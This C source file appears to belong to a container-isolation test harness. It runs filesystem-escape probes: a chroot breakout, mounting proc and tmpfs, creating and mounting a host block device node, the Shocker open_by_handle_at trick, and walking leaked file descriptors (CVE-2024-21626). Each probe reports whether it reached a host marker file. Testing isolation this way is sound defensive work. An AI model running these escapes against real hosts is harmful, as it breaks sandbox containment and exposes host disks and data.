/* Filesystem escapes: chroot, mounts, block devices, file handles, leaked fds. */
#include "common.h"
#include <dirent.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

static int chroot_escape(const char *name) {
    const char *d = scratch("chroot-jail");
    if (chroot(d) < 0) return BLOCKED("chroot(%s): %s", d, ERR);
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
    if (chroot(".") < 0) return BLOCKED("second chroot(.): %s", ERR);
    if (read_marker()) return ESCAPED("read the host marker after chroot+chdir(..) x64");
    return ALLOWED("chroot works but .. stops at the container root (marker unreadable)");
}

static int do_mount(const char *name, const char *src, const char *fstype) {
    const char *d = scratch(fstype);
    if (mount(src, d, fstype, 0, NULL) < 0) return BLOCKED("mount %s on %s: %s", fstype, d, ERR);
    struct stat st;
    int entries = 0;
    DIR *dir = opendir(d);
    if (dir) { while (readdir(dir)) entries++; closedir(dir); }
    stat(d, &st);
    umount2(d, MNT_DETACH);
    return ALLOWED("mounted %s in the container's mount namespace (%d entries)", fstype, entries);
}
static int mount_tmpfs(const char *name) { return do_mount(name, "none", "tmpfs"); }
static int mount_proc(const char *name) { return do_mount(name, "proc", "proc"); }

static dev_t host_blockdev(void) {
    unsigned ma = 254, mi = 0;
    const char *e = getenv("ESCAPE_BLOCKDEV");
    if (e) sscanf(e, "%u:%u", &ma, &mi);
    return makedev(ma, mi);
}

static int mknod_blockdev(const char *name) {
    const char *d = scratch("nodes");
    char path[160];
    snprintf(path, sizeof path, "%s/vda", d);
    unlink(path);
    dev_t dev = host_blockdev();
    if (mknod(path, S_IFBLK | 0600, dev) < 0)
        return BLOCKED("mknod b %u:%u: %s", major(dev), minor(dev), ERR);
    int fd = open(path, O_RDONLY);
    if (fd < 0) { int e = errno; unlink(path);
        return BLOCKED("mknod succeeded but open() refused: %s", strerror(e)); }
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    unlink(path);
    if (n > 0) return ESCAPED("read %zd bytes of the host block device %u:%u", n, major(dev), minor(dev));
    return ALLOWED("opened the node, read returned %zd", n);
}

static int mount_blockdev(const char *name) {
    const char *d = scratch("blk");
    char node[160], mnt[160];
    snprintf(node, sizeof node, "%s/vda", d);
    snprintf(mnt, sizeof mnt, "%s/mnt", d);
    mkdir(mnt, 0755);
    unlink(node);
    dev_t dev = host_blockdev();
    if (mknod(node, S_IFBLK | 0600, dev) < 0) return BLOCKED("mknod for the mount: %s", ERR);
    const char *types[] = {"ext4", "xfs", "btrfs"};
    int err = 0;
    for (int i = 0; i < 3; i++) {
        if (mount(node, mnt, types[i], MS_RDONLY, NULL) == 0) {
            const char *m = getenv("ESCAPE_MARKER_PATH");
            char p[300];
            snprintf(p, sizeof p, "%s%s", mnt, m ? m : "");
            int got = read_marker_at(-1, p);
            umount2(mnt, MNT_DETACH);
            unlink(node);
            return ESCAPED("mounted the host disk as %s%s", types[i], got ? " and read the marker" : "");
        }
        err = errno;
    }
    unlink(node);
    return BLOCKED("mount of the host block device: %s", strerror(err));
}

/* Shocker (2014): open_by_handle_at with a guessed handle of inode 2, the root
 * directory of an ext4 filesystem, relative to any fd on that filesystem. */
static int open_by_handle(const char *name) {
    struct { struct file_handle fh; unsigned char f[8]; } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;           /* FILEID_INO32_GEN */
    unsigned int ino = 2;
    memcpy(h.fh.f_handle, &ino, 4);
    int mnt = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_DIRECTORY);
    if (fd < 0) return BLOCKED("open_by_handle_at(inode 2): %s", ERR);
    const char *rel = getenv("ESCAPE_MARKER_FSREL");
    int got = rel && read_marker_at(fd, rel);
    int entries = 0;
    DIR *dir = fdopendir(fd);
    if (dir) { while (readdir(dir)) entries++; closedir(dir); }
    return ESCAPED("opened the filesystem's root directory by handle (%d entries)%s", entries,
                   got ? ", read the host marker" : "");
}

/* CVE-2024-21626 and friends: fds > 2 or a cwd that point outside the root. */
static int walk_up_and_read(int fd) {
    int d = dup(fd);
    for (int i = 0; i < 64 && d >= 0; i++) {
        int up = openat(d, "..", O_RDONLY | O_DIRECTORY);
        close(d);
        d = up;
    }
    int got = d >= 0 && read_marker_at(d, getenv("ESCAPE_MARKER_PATH"));
    if (d >= 0) close(d);
    return got;
}
static int leaked_fds(const char *name) {
    char report[400] = "", link[256], p[64];
    int found = 0;
    char cwd[256];
    if (!getcwd(cwd, sizeof cwd)) {
        int cwdfd = open(".", O_RDONLY | O_DIRECTORY);
        if (cwdfd >= 0 && walk_up_and_read(cwdfd)) return ESCAPED("cwd outside the root: read the marker");
        return ESCAPED("cwd is outside the container root (getcwd: %s)", ERR);
    }
    for (int fd = 3; fd < 1024; fd++) {
        struct stat st;
        if (fstat(fd, &st) < 0) continue;
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, link, sizeof link - 1);
        link[n > 0 ? n : 0] = 0;
        found++;
        size_t l = strlen(report);
        snprintf(report + l, sizeof report - l, " %d->%s", fd, link);
        if (S_ISDIR(st.st_mode) && walk_up_and_read(fd))
            return ESCAPED("fd %d (%s) leads to the host root: read the marker", fd, link);
    }
    if (walk_up_and_read(open(".", O_RDONLY | O_DIRECTORY)))
        return ESCAPED("cwd leads to the host marker");
    if (!found) return BLOCKED("no fd > 2 inherited, cwd=%s inside the root", cwd);
    return ALLOWED("inherited fds (none reaches the host):%s", report);
}

static const struct probe probes[] = {
    {"chroot_escape", chroot_escape}, {"mount_tmpfs", mount_tmpfs}, {"mount_proc", mount_proc},
    {"mount_blockdev", mount_blockdev}, {"mknod_blockdev", mknod_blockdev},
    {"open_by_handle", open_by_handle}, {"leaked_fds", leaked_fds},
};
PROBE_MAIN(probes)
